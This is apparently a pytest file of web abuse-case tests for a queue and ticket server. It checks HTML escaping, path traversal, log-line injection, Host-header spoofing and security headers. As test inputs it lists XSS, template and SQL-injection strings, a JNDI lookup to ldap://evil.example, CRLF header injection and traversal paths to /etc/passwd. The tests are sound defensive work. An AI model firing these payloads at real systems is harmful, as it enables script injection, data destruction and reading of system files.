"""Abuse cases of the web as such, by their numbers in `design/faults.md`: what is sent to be shown, read or
written that nobody should show, read or write. Those of log-ins stand in `test_abuse_of_log_ins.py`, of
slow and greedy connections in `test_feeds.py`.
"""

from __future__ import annotations

import logging
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from werkzeug.routing import Rule

from server.hall import commands as c
from server.people.rights import Role
from tests.web.place import HANAM, Place, Staff, open_place
from tests.web.test_rights import asked

LAND = "environment-land"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "template": "{{7*7}}{% raise %}${7*7}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "format": "%s%n{number}{0}",
    "emoji": "👩‍⚖️🇻🇳 xong",
    "marks": "Z̵̛̗a̴̡͝l̶̢̛g̸̨̛o̵̧͝",
    "sql": "'; DROP TABLE event;--",
}
CONTROL = {"printer": "\x1b@\x1dV\x00", "direction": "\u202egnp.exe", "lines": "one\r\ntwo"}
STAFF_PAGES = (
    "/console/7",
    "/console/7/live",
    "/reception/",
    "/figures/",
    "/history/tickets?what=issued",
    "/admin/audit/",
)


class Elements(HTMLParser):
    """What a browser would make of a page: which elements could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        told = dict(attrs)
        data = told.get("type") == "application/json"
        if tag == "script" and not data and not str(told.get("src", "")).startswith("/static/"):
            self.active.append(tag)
        if tag in ("img", "iframe", "object", "embed", "base", "link", "form") and "evil" in str(told):
            self.active.append(tag)
        self.active += [name for name in told if name.startswith("on")]
        self.active += [v for v in told.values() if v and v.strip().lower().startswith("javascript:")]


def active(text: str) -> list[str]:
    elements = Elements()
    elements.feed(text)
    return elements.active


@pytest.fixture
def chief(place: Place) -> Staff:
    place.at("7", c.OpenCounter, officer="officer-7")
    return place.log_in("chief", Role.ADMINISTRATOR)


# --- 26: what people type is text, wherever it is shown ----------------------------------------------------


@pytest.mark.parametrize("kind", HOSTILE)
def test_26_a_note_is_text_on_every_page_that_shows_it(place: Place, chief: Staff, kind: str) -> None:
    typed = HOSTILE[kind]
    mine, other = place.issue(LAND), place.issue(LAND)
    assert chief.press("7", "next").status_code == 200
    assert chief.press("7", "park", note=typed).status_code == 200
    assert chief.press("7", "bring-back", number=mine["number"]).status_code == 200
    assert chief.press("7", "call", number=mine["number"], reason=typed).status_code == 200
    ticket = place.writer.view.state.tickets[mine["ticket"]]
    assert ticket.note == typed
    shown = 0
    for path in (
        *STAFF_PAGES,
        f"/history/tickets/{mine['ticket']}",
        f"/t/{mine['token']}",
        f"/t/{other['token']}",
    ):
        answer = chief.get(path)
        assert answer.status_code == 200, path
        assert active(answer.text) == [], path
        shown += typed in unescape(answer.text)
    assert shown >= 2, "the note is to be read somewhere"
    for public in ("/board", "/board/state", f"/t/{mine['token']}"):
        assert typed not in unescape(place.client().get(public).text), "notes are the staff's"


@pytest.mark.parametrize("kind", CONTROL)
def test_26_signs_that_steer_printers_or_readers_are_refused_and_change_nothing(
    place: Place, chief: Staff, kind: str
) -> None:
    place.issue(LAND)
    chief.press("7", "next")
    rev = place.writer.view.rev
    answer = chief.press("7", "park", note=CONTROL[kind])
    assert answer.status_code in (400, 422)
    assert CONTROL[kind] not in answer.text
    assert place.writer.view.rev == rev


@pytest.mark.parametrize("length", [201, 5_000, 60_000])
def test_26_long_texts_are_refused_with_a_code(place: Place, chief: Staff, length: int) -> None:
    place.issue(LAND)
    chief.press("7", "next")
    rev = place.writer.view.rev
    answer = chief.press("7", "park", note="ă" * length)
    assert answer.status_code in (400, 413, 422) and answer.get_json()["code"]
    assert place.writer.view.rev == rev


@pytest.mark.parametrize("kind", [*HOSTILE, *CONTROL])
def test_26_what_is_asked_for_in_an_address_is_text(chief: Staff, kind: str) -> None:
    typed = (HOSTILE | CONTROL)[kind]
    for path in (
        "/history/tickets",
        "/history/",
        "/admin/audit/",
        "/figures/",
        "/dossiers/",
        "/dossiers/report",
        "/dossiers/late",
        "/console/",
        "/working-time/",
    ):
        fields = ("what", "day", "who", "find", "month", "begins", "lang", "look", "page", "span", "of")
        answer = chief.get(path, query_string=dict.fromkeys(fields, typed))
        assert answer.status_code < 500, path
        assert active(answer.text) == [], path
        assert "49$" not in answer.text and ">49<" not in answer.text, path
        assert not [name for name, value in answer.headers if "\n" in value or "evil" in value], path


@pytest.mark.parametrize("kind", HOSTILE)
def test_26_what_a_hall_calls_its_authorities_is_text_everywhere(tmp_path: Path, kind: str) -> None:
    file = tmp_path / "hall.toml"
    typed = HOSTILE[kind].replace("\\", "\\\\").replace('"', '\\"')
    text = HANAM.read_text(encoding="utf-8")
    assert "Người cao tuổi, từ 60 tuổi" in text and '"Tư pháp"' in text
    file.write_text(
        text.replace('"Tư pháp"', f'"{typed}"').replace("Người cao tuổi, từ 60 tuổi", typed), "utf-8"
    )
    place = open_place(tmp_path, hall_file=file)
    try:
        chief = place.log_in("chief", Role.ADMINISTRATOR)
        shown = 0
        for path in (
            *STAFF_PAGES,
            "/board",
            "/admin/setup/authorities",
            "/admin/setup/priority",
            "/admin/setup/review",
        ):
            answer = chief.get(path)
            assert answer.status_code in (200, 404), path
            assert active(answer.text) == [], path
            shown += HOSTILE[kind] in unescape(answer.text)
        assert shown >= 3
    finally:
        place.close()


# --- 31: names of files -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/static/../../../pyproject.toml",
        "/static/%2e%2e/%2e%2e/%2e%2e/pyproject.toml",
        "/static/..%2f..%2f..%2fpyproject.toml",
        "/static//etc/passwd",
        "/static/fonts/..%5c..%5capp.py",
        "/devices/kiosk-1/orders/..%2f..%2f..%2fetc%2fpasswd/log.txt",
        "/devices/..%2f..%2faccounts.db/orders/1/screen.png",
        "/history/export.%2e%2e",
        "/admin/setup/hall.toml?file=../../etc/passwd",
        "/admin/setup/authority/..%2f..%2fetc%2fpasswd",
        "/admin/setup/versions/..%2f1",
        "/at/..%2f..%2fetc/figures/",
    ],
)
def test_31_no_address_reaches_a_file_of_its_own_choice(chief: Staff, path: str) -> None:
    answer = chief.get(path)
    assert answer.status_code in (200, 302, 308, 400, 404)
    assert "root:" not in answer.text and "requires-python" not in answer.text
    assert b"SQLite format" not in answer.data
    if answer.status_code == 200:
        assert "hall.toml" in path


# --- 33: what is written into logs -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed", ["x\n2026-11-23 CRITICAL all lost", "x\x1b[31mred\x1b[0m", "x\r\nSet-Cookie: a=b"]
)
def test_33_a_log_line_stays_one_line_whatever_is_typed(
    place: Place, caplog: pytest.LogCaptureFixture, typed: str
) -> None:
    caplog.set_level(logging.INFO)
    client = place.client()
    told = {"name": typed, "password": "wrong-wrong-wrong"}
    assert client.post("/api/v1/login", json=told).status_code in (400, 401, 422)
    client.get("/nowhere/" + typed)
    client.get("/figures/", headers={"User-Agent": typed.replace("\n", " ").replace("\r", " ")})
    for record in caplog.records:
        line = record.getMessage()
        assert "\n" not in line and "\r" not in line and "\x1b" not in line, line


# --- 38: whom a request says it is for ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:80", "localhost@evil.example", "evil.example/x"]
)
def test_38_a_host_of_somebody_elses_is_in_no_link_and_no_cookie(place: Place, host: str) -> None:
    for path in ("/", "/login", "/board", "/figures/"):
        answer = place.client().get(path, headers={"Host": host, "X-Forwarded-Host": "evil.example"})
        assert "evil" not in answer.text
        assert not [v for n, v in answer.headers if n in ("Location", "Set-Cookie", "Link") and "evil" in v]


# --- what every answer carries -----------------------------------------------------------------------------


def reads(place: Place) -> list[Rule]:
    return [rule for rule in place.app.url_map.iter_rules() if "GET" in (rule.methods or ())]


def test_every_answer_is_kept_by_nobody_and_guessed_at_by_nobody(place: Place, chief: Staff) -> None:
    seen = set()
    for rule in reads(place):
        for client in (chief.client, place.client()):
            answer = client.get(
                asked(rule), headers={"Origin": "https://evil.example", "Accept": "text/html"}
            )
            answer.close()
            headers = answer.headers
            assert headers["X-Content-Type-Options"] == "nosniff", rule.rule
            assert "Content-Security-Policy" in headers, rule.rule
            assert not [name for name, _ in headers if name.startswith("Access-Control-")], rule.rule
            if rule.endpoint != "static":
                assert headers["Cache-Control"] == "no-store", rule.rule
            seen.add(answer.status_code)
    assert {200, 302} <= seen


def test_nothing_is_served_that_a_browser_could_take_for_a_page(place: Place, chief: Staff) -> None:
    """32: whatever is sent to be kept comes back as text, a picture drawn anew, or a file to save."""
    for rule in reads(place):
        answer = chief.get(asked(rule))
        kind = answer.content_type.split(";")[0]
        answer.close()
        assert kind != "image/svg+xml" or rule.endpoint == "static", rule.rule
        if kind == "text/html":
            assert re.search(r"^\s*(<!doctype html>|<)", answer.text, re.I) or not answer.text, rule.rule
